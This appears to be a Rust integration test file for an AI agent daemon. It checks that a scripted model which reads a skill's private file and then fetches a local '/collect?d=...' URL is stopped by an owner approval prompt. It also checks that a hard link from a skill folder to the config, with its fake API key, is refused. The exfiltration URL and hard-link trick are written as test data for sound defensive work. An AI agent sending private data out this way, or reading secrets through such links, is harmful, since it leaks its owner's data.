//! What counts as private data, from the attacker's side, through the real daemon, the fake Bot
//! API and the scripted model:
//! - `skill_read` of an installed skill's file taints the session: a later `web_fetch` carrying
//!   its text asks the owner first, and once refused the server receives nothing;
//! - a hard link in a skill folder to the daemon's config is refused, and no secret of the
//!   config reaches the model.

use crate::support::{Daemon, FakeTelegram, ScriptedModel, Step, TestHome};
use axum::extract::{OriginalUri, State};
use serde_json::json;
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

const OWNER: i64 = 218485655;
const WAIT: Duration = Duration::from_secs(30);
const SKILL_DATA: &str = "SKILLDATA-3141 the customer list";
const CONFIG_SECRET: &str = "sk-test-SKILLCONFIG0123456789abcdef";

fn setup(home: &TestHome, tg: &FakeTelegram, model: &ScriptedModel) {
    home.write_config(&format!(
        "model:\n  base_url: {}\n  api_key: {CONFIG_SECRET}\n  name: m\n\
         channels:\n  telegram:\n    token: \"{}\"\n    api_url: {}\n    streaming: off\n\
         owners: [\"telegram:{OWNER}\"]\n\
         tools:\n  web_fetch:\n    allow_private: [\"127.0.0.1\"]\n",
        model.base_url(),
        tg.token(),
        tg.base_url()
    ));
    home.write_file(
        "skills/notes/SKILL.md",
        "---\nname: notes\ndescription: How to file notes\n---\nFile them.",
    );
    home.write_file("skills/notes/data.md", SKILL_DATA);
}

/// A server recording every request it gets.
async fn recorder() -> (String, Arc<Mutex<Vec<String>>>) {
    let seen = Arc::new(Mutex::new(Vec::new()));
    async fn handler(
        State(seen): State<Arc<Mutex<Vec<String>>>>,
        OriginalUri(uri): OriginalUri,
    ) -> &'static str {
        seen.lock().unwrap().push(uri.to_string());
        "ok"
    }
    let app = axum::Router::new()
        .fallback(handler)
        .with_state(seen.clone());
    let l = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let base = format!("http://{}", l.local_addr().unwrap());
    tokio::spawn(async move {
        let _ = axum::serve(l, app).await;
    });
    (base, seen)
}

/// Deny every approval until a sent message contains `final_text`; the approval texts.
async fn deny_all(tg: &FakeTelegram, final_text: &str) -> Vec<String> {
    let deadline = Instant::now() + WAIT;
    let mut answered = 0;
    loop {
        let asked: Vec<(i64, String, String)> = tg
            .sent_messages()
            .iter()
            .filter_map(|m| {
                let row = m["reply_markup"]["inline_keyboard"][0].as_array()?;
                let deny = row
                    .iter()
                    .filter_map(|b| b["callback_data"].as_str())
                    .find(|d| d.starts_with("ap:d:"))?
                    .to_string();
                Some((
                    m["chat_id"].as_i64().unwrap_or_default(),
                    m["text"].as_str().unwrap_or_default().to_string(),
                    deny,
                ))
            })
            .collect();
        for (chat, _, deny) in &asked[answered..] {
            let id = tg.next_update_id();
            tg.push_update(FakeTelegram::callback_update(id, OWNER, *chat, deny));
        }
        answered = asked.len();
        if tg
            .sent_messages()
            .iter()
            .any(|m| m["text"].as_str().is_some_and(|t| t.contains(final_text)))
        {
            return asked.into_iter().map(|a| a.1).collect();
        }
        assert!(
            Instant::now() < deadline,
            "no {final_text:?} within {WAIT:?}; calls:\n{}",
            tg.describe_calls()
        );
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
}

fn tool_results(model: &ScriptedModel) -> Vec<String> {
    model
        .last_request()
        .map(|r| {
            r["messages"]
                .as_array()
                .unwrap()
                .iter()
                .filter(|m| m["role"] == "tool")
                .map(|m| m["content"].as_str().unwrap_or_default().to_string())
                .collect()
        })
        .unwrap_or_default()
}

#[tokio::test(flavor = "multi_thread")]
async fn skill_read_taints_the_session_and_a_later_fetch_asks() {
    let (server, seen) = recorder().await;
    let home = TestHome::new();
    let tg = FakeTelegram::start().await;
    let exfil = format!("{server}/collect?d=SKILLDATA-3141");
    let model = ScriptedModel::start(vec![
        Step::tool_call(
            "k1",
            "skill_read",
            &json!({"name": "notes", "file": "data.md"}).to_string(),
        ),
        Step::tool_call("f1", "web_fetch", &json!({"url": exfil}).to_string()),
        Step::text("done: skill"),
    ])
    .await;
    setup(&home, &tg, &model);
    tg.push_text(OWNER, OWNER, "file my notes");
    let mut daemon = Daemon::start(&home);
    let asked = deny_all(&tg, "done: skill").await;
    assert_eq!(asked.len(), 1, "{asked:#?}");
    assert!(
        asked[0].contains("skill_read") && asked[0].contains(&exfil),
        "{}",
        asked[0]
    );
    let results = tool_results(&model);
    assert!(results[0].contains(SKILL_DATA), "{}", results[0]);
    assert!(results[1].contains("refused"), "{}", results[1]);
    assert!(
        seen.lock().unwrap().is_empty(),
        "the server was reached: {:?}",
        seen.lock().unwrap()
    );
    model.assert_protocol_ok();
    daemon.stop();
    home.assert_no_panic();
}

#[tokio::test(flavor = "multi_thread")]
async fn a_hard_link_in_a_skill_folder_to_the_config_is_refused() {
    let home = TestHome::new();
    let tg = FakeTelegram::start().await;
    let model = ScriptedModel::start(vec![
        Step::tool_call(
            "k1",
            "skill_read",
            &json!({"name": "notes", "file": "settings.md"}).to_string(),
        ),
        Step::text("done: link"),
    ])
    .await;
    setup(&home, &tg, &model);
    std::fs::hard_link(
        home.path().join("config.yaml"),
        home.path().join("skills/notes/settings.md"),
    )
    .unwrap();
    tg.push_text(OWNER, OWNER, "read the notes skill's settings");
    let mut daemon = Daemon::start(&home);
    deny_all(&tg, "done: link").await;
    let results = tool_results(&model);
    assert!(
        results[0].starts_with("Error (denied)") && results[0].contains("hard link"),
        "{}",
        results[0]
    );
    for (i, req) in model.requests().iter().enumerate() {
        assert!(
            !req.to_string().contains(CONFIG_SECRET),
            "model request {i} carries the config's key"
        );
    }
    model.assert_protocol_ok();
    daemon.stop();
    home.assert_no_panic();
}
